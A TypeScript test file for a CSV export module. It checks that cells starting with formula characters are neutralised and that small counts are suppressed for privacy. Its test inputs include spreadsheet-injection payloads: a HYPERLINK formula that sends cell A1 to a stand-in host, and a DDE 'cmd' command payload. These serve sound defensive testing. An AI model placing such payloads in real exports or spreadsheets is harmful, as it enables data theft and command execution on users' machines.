import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { newFigures } from '../../src/figures/counts.ts'
import { csvOf } from '../../src/figures/csv.ts'
import { exportOf, fileName } from '../../src/figures/export.ts'
import { spanUntil } from '../../src/figures/span.ts'
import { busy, calendar, env, F, someCounts, TODAY, words } from './given.ts'

/** What a spreadsheet makes of it (RFC 4180). */
function read(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true)
  const rows: string[][] = []
  let row: string[] = []
  const cells = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/gy
  cells.lastIndex = 1
  for (let found = cells.exec(csv); found; found = cells.exec(csv)) {
    const [, cell = '', end] = found
    row.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell)
    if (end === '\r\n') rows.push(row.splice(0))
    row = end === '\r\n' ? [] : row
    if (cells.lastIndex === csv.length) return rows
  }
  throw new Error('no CSV')
}

describe('a cell', () => {
  it.each([
    '=HYPERLINK("https://x.example?"&A1,"aquí")',
    '=1+1',
    "=cmd|' /C calc'!A0",
    '+cmd|x',
    '-2+3',
    '@SUM(1+1)*cmd',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\0=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM',
  ])('is never a formula: %j', (text) => expect(read(csvOf([[text]]))).toEqual([[`'${text}`]]))

  it('may hold anything else, commas, quotes and line ends too', () => {
    const row = ['a', 'a,b', 'di "hola"', 'dos\r\nlíneas', '', '<5', "o'clock", '1-2']
    expect(read(csvOf([row, row]))).toEqual([row, row])
  })

  it('comes back as it went in, whatever it is, and begins with nothing dangerous', () => {
    const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠']
    const dangerous = fc.tuple(fc.constantFrom(...starts), fc.string()).map((two) => two.join(''))
    const text = fc.oneof(fc.string(), dangerous)
    const harmless = (cell: string) => (starts.some((start) => cell.startsWith(start)) ? `'${cell}` : cell)
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 2, maxLength: 4 }), { minLength: 1 }), (rows) => {
        const back = read(csvOf(rows))
        expect(back).toEqual(rows.map((row) => row.map(harmless)))
        for (const cell of back.flat()) expect(starts).not.toContain(cell.slice(0, 1))
      }),
    )
  })
})

describe('the export', () => {
  const session = { ...newFigures(), days: { '2026-11-23': busy, [TODAY]: { 'solved:yes': 3 } } }

  it('has the whole first, then each day, all in words', () => {
    const [head, ...rows] = read(exportOf(session, spanUntil('term', TODAY, calendar), env, words))
    expect(head).toEqual(['Periodo', 'Tema', 'Concepto', 'Cantidad', 'Unidad'])
    expect(new Set(rows.map(([period]) => period))).toEqual(new Set(['2026-2', '2026-11-23', TODAY]))
    expect(rows).toContainEqual([
      '2026-2',
      'Hasta dónde llegaron',
      'Estudiantes que dijeron aparecer vigentes',
      '345',
      'estudiantes',
    ])
    expect(rows).toContainEqual(['2026-2', 'Por qué se abrieron casos', 'NSS rechazado 3 veces', '60', 'casos'])
    expect(rows).toContainEqual(['2026-2', 'Por qué se abrieron casos', 'never-heard-of (sin texto)', '15', 'casos'])
    expect(rows).toContainEqual([TODAY, '¿Se resolvió?', 'Sí', '<5', 'casos'])
    expect(rows.flat().join(' ')).not.toContain('‹')
  })

  it('of a day is that day, and of a week its seven days', () => {
    const periods = (period: 'day' | 'week') =>
      new Set(
        read(exportOf(session, spanUntil(period, TODAY, calendar), env, words))
          .slice(1)
          .map(([name]) => name),
      )
    expect(periods('day')).toEqual(new Set([TODAY]))
    expect(periods('week')).toEqual(new Set([`2026-11-18/${TODAY}`, '2026-11-23', TODAY]))
    expect(fileName(spanUntil('week', TODAY, calendar))).toBe('afilia-2026-11-18_2026-11-24.csv')
  })

  it('never holds a one, two, three or four, whatever was counted', () => {
    fc.assert(
      fc.property(someCounts, someCounts, (one, other) => {
        const days = { '2026-11-23': one, [TODAY]: other }
        const csv = exportOf({ ...newFigures(), days }, spanUntil('term', TODAY, calendar), env, words)
        for (const [, , , count] of read(csv).slice(1)) expect(count).toMatch(/^(?:<5|\d*[05])$/)
        expect(csv).not.toContain(F)
      }),
    )
  })
})
